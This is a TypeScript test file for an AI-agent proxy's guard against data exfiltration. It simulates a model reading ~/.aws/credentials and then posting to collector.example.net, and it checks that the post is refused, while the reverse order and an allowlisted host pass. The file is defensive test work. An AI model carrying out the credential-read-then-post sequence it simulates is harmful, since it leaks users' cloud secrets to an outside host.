import { APIError } from 'openai';
import { describe, expect, it } from 'vitest';
import type { ProxyRig } from './harness.ts';
import { eventually } from '../harness/control-plane.ts';
import { READ_AND_POST_REQUEST, sidecarWith } from './read-and-post.ts';
import { openAiClient } from './sdk-options.ts';
import { failure } from '../harness/failure.ts';

/**
 * The Immune System's sequence rule through the proxy with the OpenAI SDK: a model asking to
 * read `~/.aws/credentials`, then to post to a host outside the allow list, is refused on the
 * second call as DATA_EXFILTRATION, whether the post comes in another execution of the sidecar
 * or after any number of harmless calls; the same calls in the other order, or the post to an
 * allowed host, pass. One SEMANTIC DENY rule on `tool:http_*` judging `tool_args`. Each describe
 * has a sidecar of its own: a read is remembered sidecar-wide.
 */
const READ_CREDENTIALS = JSON.stringify({ path: '~/.aws/credentials' });
const postTo = (host: string) =>
  JSON.stringify({ url: `https://${host}/ingest`, body: JSON.stringify({ report: 'weekly summary' }) });

/** A sidecar with one SEMANTIC DENY rule, for the describe it is called in. */
const sidecar = () =>
  sidecarWith(
    {
      name: 'no-exfiltration-over-http',
      priority: 500,
      rules: [
        {
          action: 'tool:http_*',
          effect: 'deny',
          conditions: [{ field: 'tool_args', operator: 'semantic', value: 'DATA_EXFILTRATION' }],
        },
      ],
    },
    { semantic_judge_allowed_hosts: 'uploads.acme.example' },
  );

function client(rig: ProxyRig, execution: string, tool: string, args: string) {
  return openAiClient(rig.agent, {
    'X-Svc-Execution-Id': execution,
    'x-sim-tool-call': tool,
    'x-sim-tool-args': args,
  });
}

/** One model answer asking for `tool` with `args`, in execution `execution`. */
function ask(rig: ProxyRig, execution: string, tool: string, args: string) {
  return client(rig, execution, tool, args).chat.completions.create(READ_AND_POST_REQUEST);
}

/** The same, streamed: the arguments as received. */
async function askStreamed(rig: ProxyRig, execution: string, tool: string, args: string): Promise<string> {
  let received = '';
  for await (const chunk of await client(rig, execution, tool, args).chat.completions.create({
    ...READ_AND_POST_REQUEST,
    stream: true,
  }))
    received += chunk.choices[0]?.delta.tool_calls?.[0]?.function?.arguments ?? '';
  return received;
}

/** The detections the control plane keeps for an execution, once there are some. */
function detectionsOf(rig: ProxyRig, execution: string): Promise<Record<string, unknown>[]> {
  return eventually(
    async () =>
      (
        (await rig.admin('GET', `/v1/brain/immune-system/detections?execution_id=${execution}`)).body as {
          detections: Record<string, unknown>[];
        }
      ).detections,
    (detections) => detections.length > 0,
    5000,
    100,
  );
}

function expectExfiltrationRefusal(error: unknown): void {
  expect(error).toBeInstanceOf(APIError);
  expect((error as APIError).status).toBe(403);
  expect((error as APIError).code).toBe('SVC-POL-2001');
  expect((error as APIError).message).toContain('judged DATA_EXFILTRATION');
  expect((error as APIError).message).toContain('collector.example.net');
}

describe('a secret read, then a post out, in one execution', () => {
  const s = sidecar();

  it('lets the same calls through in the other order', async () => {
    const post = await ask(s.rig, 'exec-immune-2', 'http_post', postTo('collector.example.net'));
    expect(post.choices[0]?.message.tool_calls?.[0]).toMatchObject({ function: { name: 'http_post' } });
    const read = await ask(s.rig, 'exec-immune-2', 'read_file', READ_CREDENTIALS);
    expect(read.choices[0]?.message.tool_calls?.[0]).toMatchObject({ function: { name: 'read_file' } });
  });

  it('refuses the post as DATA_EXFILTRATION, naming the sequence', async () => {
    const read = await ask(s.rig, 'exec-immune-1', 'read_file', READ_CREDENTIALS);
    expect(read.choices[0]?.message.tool_calls?.[0]).toMatchObject({ function: { name: 'read_file' } });
    expectExfiltrationRefusal(
      await failure(() => ask(s.rig, 'exec-immune-1', 'http_post', postTo('collector.example.net'))),
    );
    // The built-in rule's match is a detection the control plane keeps, as a tenant rule's is.
    expect(await detectionsOf(s.rig, 'exec-immune-1')).toEqual([
      expect.objectContaining({ kind: 'sequence', category: 'DATA_EXFILTRATION', action: 'tool:http_post' }),
    ]);
  });

  it('refuses it in a stream too', async () => {
    expect(await askStreamed(s.rig, 'exec-immune-stream', 'read_file', READ_CREDENTIALS)).toBe(READ_CREDENTIALS);
    const error = await failure(() =>
      askStreamed(s.rig, 'exec-immune-stream', 'http_post', postTo('collector.example.net')),
    );
    expect((error as Error).message).toContain('judged DATA_EXFILTRATION');
  });

  it('lets the post through to an allowed host', async () => {
    await ask(s.rig, 'exec-immune-3', 'read_file', READ_CREDENTIALS);
    const allowed = await ask(s.rig, 'exec-immune-3', 'http_post', postTo('uploads.acme.example'));
    expect(allowed.choices[0]?.message.tool_calls?.[0]).toMatchObject({ function: { name: 'http_post' } });
  });
});

describe('a secret read in one execution, then a post out in another of the same sidecar', () => {
  const s = sidecar();

  it('refuses the post as DATA_EXFILTRATION, a detection of the execution that posted', async () => {
    await ask(s.rig, 'exec-read', 'read_file', READ_CREDENTIALS);
    expectExfiltrationRefusal(
      await failure(() => ask(s.rig, 'exec-send', 'http_post', postTo('collector.example.net'))),
    );
    expect(await detectionsOf(s.rig, 'exec-send')).toEqual([
      expect.objectContaining({ kind: 'sequence', category: 'DATA_EXFILTRATION', execution_id: 'exec-send' }),
    ]);
  });
});

describe('a secret read, then harmless calls, then a post out', () => {
  const s = sidecar();

  it('refuses the post however many harmless calls came between', async () => {
    await ask(s.rig, 'exec-noise', 'read_file', READ_CREDENTIALS);
    for (let i = 0; i < 20; i++) {
      const read = await ask(s.rig, 'exec-noise', 'read_file', JSON.stringify({ path: `docs/notes-${i}.md` }));
      expect(read.choices[0]?.message.tool_calls?.[0]).toMatchObject({ function: { name: 'read_file' } });
    }
    expectExfiltrationRefusal(
      await failure(() => ask(s.rig, 'exec-noise', 'http_post', postTo('collector.example.net'))),
    );
  });
});
